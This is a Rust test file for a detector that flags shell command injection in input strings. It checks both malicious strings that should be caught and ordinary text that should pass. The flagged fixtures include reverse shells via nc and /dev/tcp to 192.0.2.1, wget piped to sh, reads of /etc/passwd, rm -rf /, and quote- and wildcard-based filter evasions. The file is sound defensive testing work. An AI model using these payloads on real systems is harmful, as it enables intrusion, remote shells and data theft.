use super::*;
use crate::tokens::Tokens;
use crate::tokens::tests::check_all;

#[track_caller]
fn check(expected: bool, texts: &[&str]) {
    check_all(Tokens::Shell, expected, texts);
}

#[test]
fn commands_behind_separators_are_found() {
    check(
        true,
        &[
            ";id",
            "127.0.0.1;id",
            "127.0.0.1 && whoami",
            "x||whoami",
            "a | cat /etc/passwd",
            "a;cat /etc/passwd",
            "a;ls",
            "a;ls -la",
            "1&dir",
            "1 & ping -n 10 127.0.0.1 &",
            "1\nwhoami",
            ";sleep 5",
            "|sleep 5;",
            "';cat /etc/passwd'",
            "; /bin/cat /etc/hosts",
            "; /usr/bin/id",
            ";nslookup x.example",
            ";curl http://x.example/a",
            ";wget x.example/a -o- |sh",
            "| net user",
            "; exec cat /etc/passwd",
            ";cat</etc/passwd",
            ";{cat,/etc/passwd}",
            ";/???/??t /???/p??s??",
            "a';whoami;'",
            "; echo x > /tmp/y",
            "%0a;uname -a",
            "& set /a 1+1",
            "; python -c 'import os'",
            "; rm -rf /",
            "1 && netsh firewall show",
            "||echo 79221",
            "x; nc -e /bin/sh 192.0.2.1 4444",
            ";w\"h\"o\"am\"i",
            "; 'wh'oami",
            ";c'a't /e't'c/pa's'swd",
        ],
    );
}

#[test]
fn substitutions_are_found() {
    check(
        true,
        &[
            "$(whoami)",
            "`id`",
            "a$(cat /etc/passwd)b",
            "a`sleep 5`",
            "$(curl x.example)",
            "<(cat /etc/passwd)",
            "cat${ifs}/etc/passwd",
            "$ifs",
        ],
    );
}

#[test]
fn whole_command_lines_are_found() {
    check(
        true,
        &[
            "cat /etc/passwd",
            "/bin/bash -c 'id'",
            "/bin/sh",
            "/usr/bin/id",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "cmd.exe /c dir",
            "cmd /c whoami",
            "powershell -enc aaaa",
            "c:\\windows\\system32\\cmd.exe /c dir",
            "wget http://x.example/a",
            "curl -o /tmp/a http://x.example",
            "ping -c 10 127.0.0.1",
            "ls -la",
            "rm -rf /tmp/x",
            "uname -a",
            "whoami",
            "type c:\\boot.ini",
            "net user",
            "php -r 'x'",
            "find / -name x",
            "nc 192.0.2.1 4444",
        ],
    );
}

#[test]
fn prose_and_data_are_left_alone() {
    check(
        false,
        &[
            "cats; dogs",
            "salt | pepper",
            "id=5",
            "name;id;price",
            "name|id|email",
            "sort=name;id",
            "cat food",
            "find my phone",
            "eat; sleep; repeat",
            "read more; find out",
            "red & blue",
            "AT&T",
            "q&a",
            "R&D; test",
            "time; date",
            "type; sort",
            "less than 5",
            "more; less",
            "curl/7.68.0",
            "python-requests/2.31",
            "wget/1.20",
            "Mozilla/5.0 (X11; Linux x86_64; rv:1)",
            "text/html; charset=utf-8",
            "multipart/form-data; boundary=x",
            "a $(b) c",
            "costs $(5)",
            "`quoted` word",
            "cat",
            "id",
            "host",
            "set of two",
            "kill bill",
            "sleep 10 hours a day",
            "who is who; which is which",
            "the bash is on; the ping is off",
            "/docs/bin/readme",
            "price > 5 | size < 3",
            "less; more & more",
            "echo chamber",
            "sit down; curl up; read",
            "yes; i'd say so",
            "rock'n'roll; who's who",
            "a; l'id",
            "echo 5 times",
            "a;b;c",
            "ruby; perl; python; php",
            "printf and echo",
            "",
        ],
    );
}

#[test]
fn the_cost_stays_linear() {
    for piece in [";", "`", "$(", "exec ", "/", ";cat ", "; ", "((", "\\"] {
        find(piece.repeat(20_000 / piece.len()).as_bytes());
    }
}
